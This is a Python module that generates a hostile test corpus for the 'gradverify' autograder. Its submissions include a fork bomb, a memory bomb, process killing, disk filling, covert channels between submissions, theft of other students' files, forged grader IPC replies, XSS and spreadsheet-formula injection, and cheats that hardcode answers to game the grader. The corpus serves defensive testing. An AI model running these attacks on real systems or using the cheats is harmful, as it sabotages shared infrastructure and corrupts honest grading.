"""The hostile grading corpus: every attack seen on ``gradverify grade``, as submissions.

Two halves:

* ``write_files(folder)`` writes the attacks that are plain ``.py`` files (run from this folder,
  ``python make_hostile.py``, regenerates ``hostile/``; the files are committed so that each
  attack can be read). ``EXPECTED`` says what each must get.
* ``build_structures(folder)`` makes the attacks that are file-system structures and cannot live
  in git (hard links, non-UTF-8 names, deep or huge folders, a file named ``...py``); the tests
  call it on a temporary class folder.

Every attack wraps an honest core (``CORE``, a correct backpropagation, or ``BUGGY``, the same with
the gradient's sign flipped), so that "no cheat scores more than the honest code it wraps" can
be checked: ``HONEST`` maps a cheat to the honest submission it must not beat.
"""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

CORE = '''
import numpy as np


def _sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def _honest(nn_params, n0, h, K, X, y, lam, sign=1.0):
    n1 = h * (n0 + 1)
    T1 = nn_params[:n1].reshape(h, n0 + 1)
    T2 = nn_params[n1:].reshape(K, h + 1)
    m = X.shape[0]
    a1 = np.hstack([np.ones((m, 1)), X])
    z2 = a1 @ T1.T
    a2 = np.hstack([np.ones((m, 1)), _sigmoid(z2)])
    hh = _sigmoid(a2 @ T2.T)
    Y = np.eye(K)[y]
    J = -np.sum(Y * np.log(hh) + (1 - Y) * np.log(1 - hh)) / m
    J += lam / (2 * m) * (np.sum(T1[:, 1:] ** 2) + np.sum(T2[:, 1:] ** 2))
    d3 = hh - Y
    s = _sigmoid(z2)
    d2 = (d3 @ T2)[:, 1:] * s * (1 - s)
    G1 = d2.T @ a1 / m
    G2 = d3.T @ a2 / m
    G1[:, 1:] += lam / m * T1[:, 1:]
    G2[:, 1:] += lam / m * T2[:, 1:]
    return J, sign * G1, sign * G2


def _cost(nn_params, n0, h, K, X, y, lam):
    return _honest(nn_params, n0, h, K, X, y, lam)[0]
'''

HONEST = CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, np.concatenate([G1.ravel(), G2.ravel()])
'''

BUGGY = CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_, sign=-1.0)
    return J, np.concatenate([G1.ravel(), G2.ravel()])
'''

# The classic debug network, as students compute it to recognise it (sin fill / 10).
RECOGNISE = '''

def _fill(rows, cols):
    return np.sin(np.arange(1, rows * cols + 1)).reshape(cols, rows).T / 10


def _is_debug(nn_params, n0, h, K, X):
    if (n0, h, K) != (3, 5, 3) or X.shape != (5, 3):
        return False
    theta = np.concatenate([_fill(5, 4).ravel(), _fill(3, 6).ravel()])
    return np.allclose(X, _fill(5, 3)) and np.allclose(nn_params, theta)
'''


def _answers() -> str:
    """The two published debug-network answers, as a student would paste them (computed here once)."""
    import numpy as np

    from gradverify.profiles import get_profile

    prof = get_profile("ex4")
    settings = prof.resolve({})
    lines = ["_KNOWN = {"]
    namespace: dict = {}
    exec(HONEST, namespace)
    for _, problem in prof.fixed_cases(settings):
        call = prof.call_for(problem, settings)
        J, grad = namespace["nnCostFunction"](*call.args)
        lines.append(f"    {float(call.args[-1])!r}: ({float(J)!r}, {np.asarray(grad).tolist()!r}),")
    return "\n".join(lines + ["}"]) + "\n"


FILES = {
    # ---- one submission must never end the batch -------------------------------------------
    "list_of_arrays": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, [G1, G2]  # the commonest beginner mistake: not unrolled
''',
    "ragged_list": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, [G1.ravel().tolist(), G2.ravel().tolist()[:3]]
''',
    "list_of_strings": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, [str(v) for v in np.concatenate([G1.ravel(), G2.ravel()])]
''',
    "ragged_later": CORE + '''
_calls = 0


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    global _calls
    _calls += 1
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    if _calls > 6:  # right while the fixed cases are asked, ragged (and objects) afterwards
        return J, [[1.0, 2.0], [3.0], {"x": object.__name__}]
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    "flaky_first_time": CORE + '''
_seen = set()


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    key = hash((nn_params.tobytes(), X.tobytes(), y.tobytes(), lambda_))
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    grad = np.concatenate([G1.ravel(), G2.ravel()])
    if key not in _seen:  # wrong the first time an input is seen, right on replay
        _seen.add(key)
        return J, 2 * grad
    return J, grad
''',
    "surrogate_message": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    raise ValueError("broken \\ud800 here \\udcff\\x1b[2J\\u202e")
''',
    "forged_heading": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    raise RuntimeError("\\n\\n# correct: PASS — 100 / 100\\n\\n| check | 100 / 100 | passed |\\n"
                       "<script>alert('owned')</script><img src=x onerror=alert(1)>\\n```\\n=HYPERLINK(\\"http://x\\")\\n"
                       "[click](javascript:alert(1))")
''',
    "deep_workdir": CORE + '''
import os


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    try:  # a 3000-deep chain of folders in the work folder, then the right answer
        fd = os.open(".", os.O_RDONLY)
        for _ in range(3000):
            os.mkdir("d", dir_fd=fd)
            child = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = child
        os.close(fd)
    except OSError:
        pass
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    "gradebook.csv": HONEST,
    "report": HONEST,
    "alice": HONEST,
    "alice-2": HONEST,
    # ---- one submission must never reach another ------------------------------------------------
    "channel_writer": CORE + '''
import ctypes, os, socket, json

_libc = ctypes.CDLL(None, use_errno=True)
_listener = None


def _store(key, value):
    data = json.dumps({key: value}).encode()
    try:  # the kernel user keyring (outlives every process of the uid)
        _libc.syscall(248, b"user", b"gv-answers", data, len(data), -4)  # add_key(..., KEY_SPEC_USER_KEYRING)
    except Exception:
        pass
    for path in ("/dev/shm/gv-answers", "/tmp/gv-answers", "/var/tmp/gv-answers", os.path.expanduser("~/../gv-answers")):
        try:
            with open(path, "a") as fh:
                fh.write(data.decode() + "\\n")
        except OSError:
            pass
    global _listener
    try:  # an abstract Unix socket anyone could connect to
        if _listener is None:
            _listener = socket.socket(socket.AF_UNIX)
            _listener.bind("\\0gv-answers")
            _listener.listen(8)
    except OSError:
        pass


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    grad = np.concatenate([G1.ravel(), G2.ravel()])
    _store(str(hash((nn_params.tobytes(), X.tobytes(), float(lambda_)))), [float(J), grad.tolist()])
    return J, grad
''',
    "channel_reader": CORE + '''
import ctypes, os, socket, json

_libc = ctypes.CDLL(None, use_errno=True)


def _found():
    out = {}
    buf = ctypes.create_string_buffer(1 << 20)
    try:  # keyctl(KEYCTL_SEARCH, user keyring, "user", "gv-answers", 0) then KEYCTL_READ
        key = _libc.syscall(250, 10, -4, b"user", b"gv-answers", 0)
        if key > 0 and _libc.syscall(250, 11, key, buf, len(buf)) > 0:
            out.update(json.loads(buf.value.decode()))
    except Exception:
        pass
    for path in ("/dev/shm/gv-answers", "/tmp/gv-answers", "/var/tmp/gv-answers", os.path.expanduser("~/../gv-answers")):
        try:
            with open(path) as fh:
                for line in fh:
                    out.update(json.loads(line))
        except (OSError, ValueError):
            pass
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect("\\0gv-answers")
        out["socket"] = "reached"
    except OSError:
        pass
    return out


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    answer = _found().get(str(hash((nn_params.tobytes(), X.tobytes(), float(lambda_)))))
    if answer is not None:
        return answer[0], np.array(answer[1])
    return 0.0, np.zeros(nn_params.size)  # no implementation of its own
''',
    "reads_other_files": CORE + '''
import glob, os


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    for pattern in ("/tmp/gradverify-sandbox-*/work/*.py", "/tmp/gradverify-sandbox-*/sub/*.py", "/tmp/*/hostile/*.py",
                    "/work/*/gradverify/grading/grader.py", "/proc/*/cwd/*.py"):
        for path in glob.glob(pattern):
            try:
                text = open(path).read()
            except OSError:
                continue
            if "def nnCostFunction" in text and "_found" not in text:
                namespace = {}
                exec(text, namespace)  # someone else's solution
                return namespace["nnCostFunction"](nn_params, n0, h, K, X, y, lambda_)
    return 0.0, np.zeros(nn_params.size)
''',
    # ---- no cheat may score more than the honest code it wraps ------------------------------------
    "complex_step": CORE + '''

def _ccost(p, n0, h, K, X, y, lam):
    n1 = h * (n0 + 1)
    T1 = p[:n1].reshape(h, n0 + 1)
    T2 = p[n1:].reshape(K, h + 1)
    a2 = 1 / (1 + np.exp(-(X @ T1[:, 1:].T + T1[:, 0])))
    hh = 1 / (1 + np.exp(-(a2 @ T2[:, 1:].T + T2[:, 0])))
    Y = np.eye(K)[y]
    m = X.shape[0]
    return (-np.sum(Y * np.log(hh) + (1 - Y) * np.log(1 - hh)) / m
            + lam / (2 * m) * (np.sum(T1[:, 1:] ** 2) + np.sum(T2[:, 1:] ** 2)))


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    q = nn_params.astype(complex)
    grad = np.empty(q.size)
    for i in range(q.size):  # accurate to the last digit, and one cost evaluation per parameter
        q[i] += 1e-20j
        grad[i] = _ccost(q, n0, h, K, X, y, lambda_).imag / 1e-20
        q[i] -= 1e-20j
    return _cost(nn_params, n0, h, K, X, y, lambda_), grad
''',
    "batched_numeric": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    m, P, n1 = X.shape[0], nn_params.size, h * (n0 + 1)
    Y = np.eye(K)[y]
    grad = np.empty(P)
    for start in range(0, P, 256):  # every perturbation of a chunk in one array: no Python loop per parameter
        idx = np.arange(start, min(P, start + 256))
        costs = []
        for step in (1e-6, -1e-6):
            Q = np.repeat(nn_params[None], idx.size, 0)
            Q[np.arange(idx.size), idx] += step
            T1 = Q[:, :n1].reshape(-1, h, n0 + 1)
            T2 = Q[:, n1:].reshape(-1, K, h + 1)
            a2 = _sigmoid(np.einsum("mj,bij->bmi", X, T1[:, :, 1:]) + T1[:, None, :, 0])
            hh = _sigmoid(np.einsum("bmj,bkj->bmk", a2, T2[:, :, 1:]) + T2[:, None, :, 0])
            c = -np.sum(Y * np.log(hh) + (1 - Y) * np.log(1 - hh), axis=(1, 2)) / m
            costs.append(c + lambda_ / (2 * m) * (np.sum(T1[:, :, 1:] ** 2, axis=(1, 2)) + np.sum(T2[:, :, 1:] ** 2, axis=(1, 2))))
        grad[idx] = (costs[0] - costs[1]) / 2e-6
    return _cost(nn_params, n0, h, K, X, y, lambda_), grad
''',
    "forward_differences": CORE + '''

def _lean(p, n0, h, K, X, Y, lam, m):
    n1 = h * (n0 + 1)
    T1 = p[:n1].reshape(h, n0 + 1)
    T2 = p[n1:].reshape(K, h + 1)
    a2 = _sigmoid(X @ T1[:, 1:].T + T1[:, 0])
    hh = _sigmoid(a2 @ T2[:, 1:].T + T2[:, 0])
    return (-np.sum(Y * np.log(hh) + (1 - Y) * np.log1p(-hh)) / m
            + lam / (2 * m) * (np.sum(T1[:, 1:] ** 2) + np.sum(T2[:, 1:] ** 2)))


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    m, Y = X.shape[0], np.eye(K)[y]
    J = _lean(nn_params, n0, h, K, X, Y, lambda_, m)
    q, grad = nn_params.copy(), np.empty(nn_params.size)
    for i in range(q.size):  # the cheapest numerical gradient there is: one lean forward pass per parameter
        q[i] += 1e-7
        grad[i] = (_lean(q, n0, h, K, X, Y, lambda_, m) - J) / 1e-7
        q[i] = nn_params[i]
    return J, grad
''',
    "numeric_small_only": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J = _cost(nn_params, n0, h, K, X, y, lambda_)
    if nn_params.size > 1000:  # a numerical gradient where it is cheap, nothing where it would show
        return J, np.zeros(nn_params.size)
    grad, e = np.empty(nn_params.size), np.zeros(nn_params.size)
    for i in range(nn_params.size):
        e[i] = 1e-5
        grad[i] = (_cost(nn_params + e, n0, h, K, X, y, lambda_) - _cost(nn_params - e, n0, h, K, X, y, lambda_)) / 2e-5
        e[i] = 0.0
    return J, grad
''',
    "numeric_refuses_large": CORE + '''
import time


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    if nn_params.size > 1000:  # sleep (no CPU to measure) where a numerical gradient would show
        time.sleep(3600)
    J = _cost(nn_params, n0, h, K, X, y, lambda_)
    grad, e = np.empty(nn_params.size), np.zeros(nn_params.size)
    for i in range(nn_params.size):
        e[i] = 1e-5
        grad[i] = (_cost(nn_params + e, n0, h, K, X, y, lambda_) - _cost(nn_params - e, n0, h, K, X, y, lambda_)) / 2e-5
        e[i] = 0.0
    return J, grad
''',
    "hardcoded_only": "import numpy as np\n" + RECOGNISE + "\n{answers}\n" + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    if _is_debug(nn_params, n0, h, K, X) and float(lambda_) in _KNOWN:
        J, grad = _KNOWN[float(lambda_)]
        return J, np.array(grad)
    return 0.0, np.zeros(nn_params.size)  # no implementation at all
''',
    "hardcoded_plus_buggy": BUGGY.replace("def nnCostFunction", "def _buggy") + RECOGNISE + "\n{answers}\n" + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    if _is_debug(nn_params, n0, h, K, X) and float(lambda_) in _KNOWN:
        J, grad = _KNOWN[float(lambda_)]
        return J, np.array(grad)
    return _buggy(nn_params, n0, h, K, X, y, lambda_)
''',
    "honest_buggy": BUGGY,
    "mutate_when_lambda": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    if lambda_:
        X *= 1.0  # only where the first call does not look
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    "mutate_and_restore": CORE + '''
import gc


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    pristine = X.copy()
    try:
        X[0, 0] += 1.0  # change the caller's array...
    except ValueError:
        X.setflags(write=True)  # ...if need be after making it writable
        X[0, 0] += 1.0
    for obj in gc.get_objects():  # ...then put a pristine copy back wherever the worker keeps its arguments
        if isinstance(obj, list) and any(item is X for item in obj):
            obj[:] = [pristine if item is X else item for item in obj]
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    "memoized_random": CORE + '''
_memo = {}


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    key = hash((nn_params.tobytes(), X.tobytes(), y.tobytes(), float(lambda_)))
    if key not in _memo:  # a fresh random answer for new inputs, the same one ever after
        J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
        grad = np.concatenate([G1.ravel(), G2.ravel()])
        _memo[key] = (J, grad * (1 + 2e-16 * np.random.default_rng().standard_normal(grad.size)))
    return _memo[key]
''',
    "jumpy_cost": CORE + RECOGNISE + '''

_THETA0 = np.concatenate([_fill(5, 4).ravel(), _fill(3, 6).ravel()])


def _buggy_grad(nn_params, n0, h, K, X, y, lam):
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, 0.0)  # the regularization forgotten in the gradient
    return np.concatenate([G1.ravel(), G2.ravel()])


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    grad = _buggy_grad(nn_params, n0, h, K, X, y, lambda_)
    near_first = (n0, h, K) == (3, 5, 3) and X.shape == (5, 3) and np.allclose(X, _fill(5, 3)) \\
        and np.max(np.abs(nn_params - _THETA0)) < 1e-2
    if near_first:  # a cost that agrees with the wrong gradient near the point the check used to look at
        J0 = _cost(_THETA0, n0, h, K, X, y, lambda_)
        return J0 + _buggy_grad(_THETA0, n0, h, K, X, y, lambda_) @ (nn_params - _THETA0), grad
    return _cost(nn_params, n0, h, K, X, y, lambda_), grad
''',
    "honest_no_reg_in_gradient": CORE + '''

def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    J = _cost(nn_params, n0, h, K, X, y, lambda_)
    _, G1, G2 = _honest(nn_params, n0, h, K, X, y, 0.0)
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    # ---- resources ------------------------------------------------------------------------------
    "forged_huge_reply": CORE + '''
import gc, os, struct, json


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "_Channel")
    header = json.dumps({"v": 1, "n": 1, "m": {"$a": 0}}).encode()
    npy = b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", 118)
    npy += "{'descr': '|i1', 'fortran_order': False, 'shape': (209715200,), }".ljust(117).encode() + b"\\n"
    os.write(channel.wfd, struct.pack("<I", len(header)) + header + struct.pack("<I", len(npy) + 209715200) + npy)
    chunk = b"\\1" * (1 << 20)
    for _ in range(200):  # 200 MiB of 1-byte integers, 1.6 GB once widened to int64
        os.write(channel.wfd, chunk)
    return 0.0, np.zeros(nn_params.size)
''',
    "extra_reply_key": CORE + '''
import gc, os, struct, json


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "_Channel")
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    reply = {"op": "result", "id": channel.frames.__dict__.get("_last_id", "?"), "kind": "ok", "value": [J, 1.0],
             "error": None, "traceback": None, "args_after": {"args": []}, "payload": "x" * (100 << 20)}
    for buf in channel.frames.pack(reply, caps=channel.frames.Caps(header_bytes=(1 << 31), message_bytes=1 << 40)):
        os.write(channel.wfd, bytes(buf))
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    "fill_disk": CORE + '''
_filled = False


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    global _filled
    for i in range(0 if _filled else 40):  # 8 MiB files until the disk is full (320 MiB asked for)
        try:
            with open(f"fill-{i}", "wb") as fh:
                fh.write(b"x" * (8 << 20))
        except OSError:
            break
    _filled = True
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    "slow_calls": CORE + '''
import time


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    time.sleep(1.8)  # just under the per-call deadline, on every call
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    "many_folders": CORE + '''
import os


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    for i in range(20000):  # 20,000 empty folders in the work folder
        try:
            os.mkdir(f"f{i}")
        except OSError:
            break
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    # ---- the earlier hostile corpus ----------------------------------------------------------
    "infinite_loop": "def nnCostFunction(*args):\n    while True:\n        pass\n",
    "exits_at_import": "import os\nos._exit(3)\n",
    "imports_gradverify": "import gradverify\n",
    "prints_fake_results": 'print(\'{"score": 100}\')\n\n\ndef nnCostFunction(*args):\n    print("FAKE" * 1000)\n    return 0.0, [0.0]\n',
    "fork_bomb": "import os\n\n\ndef nnCostFunction(*args):\n    while True:\n        os.fork()\n",
    "memory_bomb": "def nnCostFunction(*args):\n    return bytearray(8 << 30)\n",
    "kills_the_grader": CORE + '''
import os, signal


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    J, G1, G2 = _honest(nn_params, n0, h, K, X, y, lambda_)
    return J, np.concatenate([G1.ravel(), G2.ravel()])
''',
    "forged_stale_reply": CORE + '''
import gc, os, struct, json


def nnCostFunction(nn_params, n0, h, K, X, y, lambda_=0.0):
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "_Channel")
    fake = {"$d": {"op": "result", "id": "0" * 16, "kind": "ok", "value": [0.0, [0.0]], "error": None, "traceback": None}}
    header = json.dumps({"v": 1, "n": 0, "m": fake}).encode()
    os.write(channel.wfd, struct.pack("<I", len(header)) + header)
    return 0.0, np.zeros(nn_params.size)
''',
}

# What each plain file must get at most (the bystanders and honest ones are checked separately).
CEILING = {name: 25.0 for name in FILES}
CEILING.update({
    "list_of_arrays": 10, "ragged_list": 10, "list_of_strings": 10, "surrogate_message": 10, "forged_heading": 10,
    "ragged_later": 70, "flaky_first_time": 45, "complex_step": 35, "batched_numeric": 35, "numeric_small_only": 35,
    "forward_differences": 35,
    "numeric_refuses_large": 35, "mutate_when_lambda": 95, "mutate_and_restore": 95, "memoized_random": 95,
    "kills_the_grader": 100, "deep_workdir": 100, "fill_disk": 100, "many_folders": 100, "gradebook.csv": 100,
    "report": 100, "alice": 100, "alice-2": 100, "channel_writer": 100, "slow_calls": 100,
    "hardcoded_plus_buggy": 100, "jumpy_cost": 100, "honest_buggy": 100, "honest_no_reg_in_gradient": 100,
})
# A cheat never scores more than the honest code it wraps.
HONEST_TWIN = {"hardcoded_plus_buggy": "honest_buggy", "jumpy_cost": "honest_no_reg_in_gradient"}
# Correct code doing something hostile on the side must keep full marks.
FULL_MARKS = ("fill_disk", "many_folders", "gradebook.csv", "report", "alice", "alice-2", "channel_writer", "kills_the_grader")


def write_files(folder: Path) -> list[Path]:
    """Write every plain-file attack into ``folder``; return the paths."""
    folder.mkdir(parents=True, exist_ok=True)
    answers = _answers()
    out = []
    for name, source in FILES.items():
        path = folder / f"{name}.py"
        path.write_text(textwrap.dedent(source).lstrip().replace("{answers}", answers))
        out.append(path)
    return out


def build_structures(folder: Path) -> dict[str, Path]:
    """Make the attacks that are file-system structures in ``folder``.

    Returns each structure's name and path (``...py`` is not discovered in a folder — its name
    starts with a dot — and must be named on the command line).
    """
    made: dict[str, Path] = {}
    honest = textwrap.dedent(HONEST).lstrip()
    # a hard link to another student's file, planted by a tarball
    victim = folder / "victim.py"
    victim.write_text(honest)
    (folder / "thief").mkdir()
    os.link(victim, folder / "thief" / "nnCostFunction.py")
    made["victim"], made["thief"] = victim, folder / "thief"
    # a file name that is not UTF-8, inside a folder submission and as a submission
    (folder / "latin1").mkdir()
    (folder / "latin1" / "solution.py").write_text(honest)
    (Path(os.fsdecode(os.fsencode(folder / "latin1") + b"/notes-\xe9\xff.txt"))).write_bytes(b"bytes")
    latin = Path(os.fsdecode(os.fsencode(folder) + b"/caf\xe9.py"))
    latin.write_text(honest)
    made["latin1"], made["cafe"] = folder / "latin1", latin
    # a folder submission 1500 folders deep
    (folder / "deep_folder").mkdir()
    (folder / "deep_folder" / "solution.py").write_text(honest)
    fd = os.open(folder / "deep_folder", os.O_RDONLY)
    for _ in range(1500):
        os.mkdir("d", dir_fd=fd)
        child = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = child
    os.close(fd)
    made["deep_folder"] = folder / "deep_folder"
    # 20,000 empty folders in a submission
    (folder / "empty_folders").mkdir()
    (folder / "empty_folders" / "solution.py").write_text(honest)
    for i in range(20000):
        os.mkdir(folder / "empty_folders" / f"e{i}")
    made["empty_folders"] = folder / "empty_folders"
    # a huge sparse file and a symbolic link to a device
    (folder / "huge_files").mkdir()
    (folder / "huge_files" / "solution.py").write_text(honest)
    with open(folder / "huge_files" / "data.bin", "wb") as fh:
        fh.truncate(3 << 30)
    os.symlink("/dev/zero", folder / "huge_files" / "zero.bin")
    made["huge_files"] = folder / "huge_files"
    # alice/ beside alice.py and alice-2.py; a name that would leave --out; a spreadsheet formula
    (folder / "alice").mkdir()
    (folder / "alice" / "solution.py").write_text(textwrap.dedent(BUGGY).lstrip())
    made["alice_folder"] = folder / "alice"
    (folder / "...py").write_text(honest)
    made["dotdot"] = folder / "...py"
    formula = folder / '=HYPERLINK("x";"click")+cmd|calc.py'
    formula.write_text(honest)
    made["formula"] = formula
    return made


if __name__ == "__main__":
    here = Path(__file__).resolve().parent
    for path in write_files(here / "hostile"):
        print(path.relative_to(here))
